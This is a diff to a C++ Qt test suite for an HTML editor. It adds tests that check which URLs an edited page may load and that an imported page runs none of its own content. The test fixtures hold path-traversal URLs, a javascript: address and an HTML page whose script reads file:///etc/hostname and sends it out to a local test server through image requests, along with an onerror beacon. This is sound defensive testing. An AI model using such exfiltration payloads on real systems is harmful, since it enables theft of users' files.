@@ -2,7 +2,9 @@
 // with a real browser: filling, pictures (also fetched from a web server on
 // 127.0.0.1), import, fonts, colours, tables, merge fields (inserted and
 // dropped), the Enter key, writing N.htm, opening it in the browser and
-// sending it with its pictures inline.
+// sending it with its pictures inline; what an imported page may run and
+// load (nothing of its own, nothing outside the project).
+#include "ui/htmleditor/editorpage.h"
 #include "ui/htmleditor/htmleditor.h"
 #include "ui/htmleditor/htmlfragments.h"
 #include "ui/htmleditor/ttables.h"
@@ -44,6 +46,7 @@
 #include <QTemporaryDir>
 #include <QTest>
 #include <QWebEnginePage>
+#include <QWebEngineScript>
 #include <QWebEngineView>
 
 using namespace varnholt;
@@ -68,12 +71,14 @@ QString bodyOf(const QString &html)
     return body.match(html).captured(1);
 }
 
-// Runs a script in the page's own world and waits for its answer.
-QVariant pageScript(THtmlEditor *editor, const QString &script)
+// Runs a script in the world of the editor's own scripts (the document's
+// own world runs none) and waits for its answer.
+QVariant pageScript(THtmlEditor *editor, const QString &script,
+                    quint32 world = QWebEngineScript::ApplicationWorld)
 {
     QVariant answer;
     bool done = false;
-    editor->view()->page()->runJavaScript(script, [&](const QVariant &v) {
+    editor->view()->page()->runJavaScript(script, world, [&](const QVariant &v) {
         answer = v;
         done = true;
     });
@@ -84,7 +89,7 @@ QVariant pageScript(THtmlEditor *editor, const QString &script)
 
 // A web server on 127.0.0.1 for pictures: any path ending in "ok.gif"
 // answers a GIF, "hang.gif" is accepted and never answered, anything else
-// is not found.
+// is not found. It counts every connection, requests or not.
 class PictureServer : public QObject
 {
 public:
@@ -92,8 +97,10 @@ public:
     {
         QVERIFY(m_server.listen(QHostAddress::LocalHost, 0));
         connect(&m_server, &QTcpServer::newConnection, this, [this] {
-            while (QTcpSocket *socket = m_server.nextPendingConnection())
+            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
+                ++connections;
                 connect(socket, &QTcpSocket::readyRead, this, [this, socket] { answer(socket); });
+            }
         });
     }
     QString address(const QString &path) const
@@ -101,6 +108,7 @@ public:
         return QStringLiteral("http://127.0.0.1:%1/%2").arg(m_server.serverPort()).arg(path);
     }
     QStringList requests;
+    int connections = 0;
 
 private:
     void answer(QTcpSocket *socket)
@@ -639,6 +647,109 @@ private slots:
         QVERIFY(saved.contains("<title>p</title>"));
         QVERIFY(saved.contains("http://127.0.0.1:1/remote.gif"));
         QVERIFY(!editor->htmlChanged());
+    }
+
+    // What the edited document may load besides itself.
+    void editorMayLoad_data()
+    {
+        QTest::addColumn<QString>("url");
+        QTest::addColumn<QString>("projectFolder");
+        QTest::addColumn<bool>("allowed");
+        const QString project = QStringLiteral("/work/offers/");
+        QTest::newRow("picture in the picture folder") << "file:///work/offers/p/logo.gif" << project << true;
+        QTest::newRow("beside N.htm, folder without slash") << "file:///work/offers/p.htm" << "/work/offers" << true;
+        QTest::newRow("climbing out with ..") << "file:///work/offers/p/../../secret.gif" << project << false;
+        QTest::newRow("encoded slashes climb out") << "file:///work/offers/..%2F..%2Fetc%2Fhostname" << project << false;
+        QTest::newRow("folder of a like name") << "file:///work/offers-old/logo.gif" << project << false;
+        QTest::newRow("elsewhere on the disk") << "file:///etc/hostname" << project << false;
+        QTest::newRow("file on another computer") << "file://server/work/offers/logo.gif" << project << false;
+        QTest::newRow("no project folder") << "file:///work/offers/p/logo.gif" << QString() << false;
+        QTest::newRow("relative project folder") << "file:///work/offers/p/logo.gif" << "offers" << false;
+        QTest::newRow("http") << "http://127.0.0.1/logo.gif" << project << false;
+        QTest::newRow("https") << "https://example.org/logo.gif" << project << false;
+        QTest::newRow("ftp") << "ftp://example.org/logo.gif" << project << false;
+        QTest::newRow("web socket") << "ws://127.0.0.1:80/" << project << false;
+        QTest::newRow("script address") << "javascript:alert(1)" << project << false;
+        QTest::newRow("embedded data") << "data:image/gif;base64,R0lGOD" << project << true;
+        QTest::newRow("resource") << "qrc:/htmleditor/editorbridge.js" << project << true;
+        QTest::newRow("blank") << "about:blank" << project << true;
+        QTest::newRow("blob") << "blob:file:///0d8e1b7c" << project << true;
+    }
+
+    void editorMayLoad()
+    {
+        QFETCH(QString, url);
+        QFETCH(QString, projectFolder);
+        QFETCH(bool, allowed);
+        QCOMPARE(EditorMayLoad(QUrl(url), projectFolder), allowed);
+    }
+
+    // A page imported from elsewhere runs none of its scripts, event
+    // attributes or refreshes and reaches neither the network nor files
+    // outside the project, while the editor still edits, saves and inserts
+    // in it.
+    void importedPageRunsNothingAndReachesNothing()
+    {
+        PictureServer server;
+        openProject("Text", false);
+        THtmlEditor *editor = showHtmlPage();
+        auto *page = qobject_cast<EditorPage *>(editor->view()->page());
+        QVERIFY(page);
+        QSignalSpy blocked(page, &EditorPage::requestBlocked);
+        qsizetype blockedBeforeLastNavigation = 0;
+        connect(page, &EditorPage::navigationAccepted, this, [&] { blockedBeforeLastNavigation = blocked.size(); });
+
+        // The page and a picture of the user's, outside the project folder.
+        QTemporaryDir elsewhere;
+        const QString outside = elsewhere.path() + "/";
+        writeFile(outside + "private/secret.gif", kRedGif);
+        const QByteArray to = server.address({}).chopped(1).toLatin1(); // http://127.0.0.1:PORT
+        const QUrl refresh(QString::fromLatin1(to + "/r"));
+        const QUrl secret = QUrl::fromLocalFile(outside + "private/secret.gif");
+        writeFile(outside + "newsletter.htm",
+                  "<html><head><meta http-equiv=\"refresh\" content=\"0;url=" + refresh.toEncoded() + "\">"
+                  "<script>document.documentElement.setAttribute('data-ran', 'yes');"
+                  "new Image().src = '" + to + "/?s=1';"
+                  "fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
+                  ".then(function (t) { new Image().src = '" + to + "/?d=' + encodeURIComponent(t); });</script>"
+                  "</head><body><p>Imported</p>"
+                  "<img src=\"missing.png\" onerror=\"new Image().src='" + to + "/?e=1'\">"
+                  "<img src=\"" + secret.toEncoded() + "\"></body></html>");
+
+        editor->importHtmlFile(outside + "newsletter.htm");
+        // The import ends on N.htm (holding the same head, refresh and all).
+        QTRY_VERIFY_WITH_TIMEOUT(editor->view()->url() == QUrl::fromLocalFile(dir() + "p.htm") && editor->documentPresent(),
+                                 20000);
+        // The picture outside was asked for and refused while the page was
+        // shown (the import then copied it in), and so was N.htm's refresh.
+        QVERIFY(blocked.contains(QVariantList{secret}));
+        QTRY_VERIFY_WITH_TIMEOUT(blocked.mid(blockedBeforeLastNavigation).contains(QVariantList{refresh}), 10000);
+
+        // The editor still edits, inserts and saves in that document.
+        QSignalSpy changed(editor, &THtmlEditor::changed);
+        editor->runCommand("selectAll");
+        QVERIFY(changed.wait(10000));
+        editor->runCommand("Bold");
+        QVERIFY(changed.wait(10000));
+        QVERIFY2(bodyOf(editor->source()).contains("<b>Imported</b>"), qPrintable(editor->source()));
+        pageScript(editor, "document.getSelection().collapseToEnd(); true");
+        editor->insertMergeField("[Column#1]");
+        QVERIFY(changed.wait(10000));
+        writeFile(dir() + "img/logo.gif", kBlueGif);
+        QVERIFY(editor->insertPicture(dir() + "img/logo.gif"));
+        QVERIFY(changed.wait(10000));
+        QTRY_COMPARE_WITH_TIMEOUT(pageScript(editor, "document.images[document.images.length - 1].naturalWidth").toInt(), 1,
+                                  10000);
+        QVERIFY(editor->writeHtml());
+        const QString saved = QString::fromUtf8(readFile(dir() + "p.htm"));
+        QVERIFY2(saved.contains("[Column#1]") && saved.contains("src=\"file://" + dir() + "p/logo.gif\""),
+                 qPrintable(saved));
+
+        // Nothing of the page's own ran, and nothing reached the server.
+        QVERIFY2(!saved.contains("data-ran=\"yes\""), qPrintable(saved));
+        QVERIFY(!pageScript(editor, "1", QWebEngineScript::MainWorld).isValid());
+        QCOMPARE(server.connections, 0);
+        QCOMPARE(editor->view()->url(), QUrl::fromLocalFile(dir() + "p.htm"));
     }
 
     void picturesFetchedFromTheWeb()
